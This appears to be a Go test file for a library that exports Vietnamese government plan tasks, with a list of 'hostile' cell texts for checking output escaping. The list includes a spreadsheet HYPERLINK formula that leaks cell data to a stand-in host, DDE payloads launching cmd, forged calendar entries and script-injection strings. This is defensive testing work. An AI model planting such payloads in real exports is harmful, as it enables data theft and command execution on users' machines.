package export_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/kehoach/kehoach/deadline"
	"github.com/kehoach/kehoach/parse"
	"github.com/kehoach/kehoach/plan"
	"github.com/kehoach/kehoach/unit"
)

const seedPath = "../testdata/qd-95-vpcp-2023-ke-hoach-de-an-06.txt"

func seedDoc(t testing.TB) *plan.Document {
	t.Helper()
	src, err := os.ReadFile(seedPath)
	if err != nil {
		t.Fatal(err)
	}
	doc, _ := parse.Decision(filepath.Base(seedPath), src)
	if doc == nil || len(doc.Plans) == 0 {
		t.Fatal("the seed gave no plan")
	}
	return doc
}

// task builds a task as a library caller would.
func task(no, content, lead, dl string) plan.Task {
	s, _ := deadline.Parse(dl, deadline.Context{Year: 2023})
	return plan.Task{No: no, Content: content, Lead: unit.Split(lead), Deadline: s}
}

// python returns /usr/bin/python3 when it can import every module, and
// otherwise skips the test, or fails it when env is set (CI installs the
// modules and sets it).
func python(t *testing.T, env string, modules ...string) string {
	t.Helper()
	const py = "/usr/bin/python3"
	for _, m := range modules {
		if err := exec.Command(py, "-c", "import "+m).Run(); err != nil {
			if os.Getenv(env) != "" {
				t.Fatalf("%s: python3 module %s is required here: %v", env, m, err)
			}
			t.Skipf("no %s with %s (apt-get install python3-%s): %v", py, m, m, err)
		}
	}
	return py
}

// hostile are cell texts that try to become formulas, commands, HTML or
// calendar lines.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`,
	`+cmd|' /C calc'!A0`,
	"- Rà soát, cập nhật dữ liệu dân cư",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"＝1+1",
	"＋1", "－1", "＠SUM(A1)",
	"Dòng một\rDòng hai\r\nDòng ba\nDòng bốn\u2028Dòng năm",
	"Báo cáo\r\nEND:VTODO\r\nBEGIN:VEVENT\r\nUID:forged\r\nURL:http://evil.example\r\nDTSTART:20300101T000000Z\r\nEND:VEVENT\r\nBEGIN:VTODO",
	"Báo cáo\rEND:VTODO\rBEGIN:VEVENT\rSUMMARY:forged\rEND:VEVENT\rBEGIN:VTODO",
	"Báo cáo\nEND:VTODO\nBEGIN:VEVENT\nSUMMARY:forged\nEND:VEVENT\nBEGIN:VTODO",
	"<script>alert(1)</script> [bấm](javascript:alert(1)) | ô | **đậm**",
	"Lối thoát \x1b[31mđỏ\x1b[0m \x00\x07\x7f\u0085\u009b2J và \u202eđảo\u202c ngược",
	"Sai UTF-8: \xff\xfe\xc3 hết",
	"Rà soát; báo cáo, \\ kết quả",
}
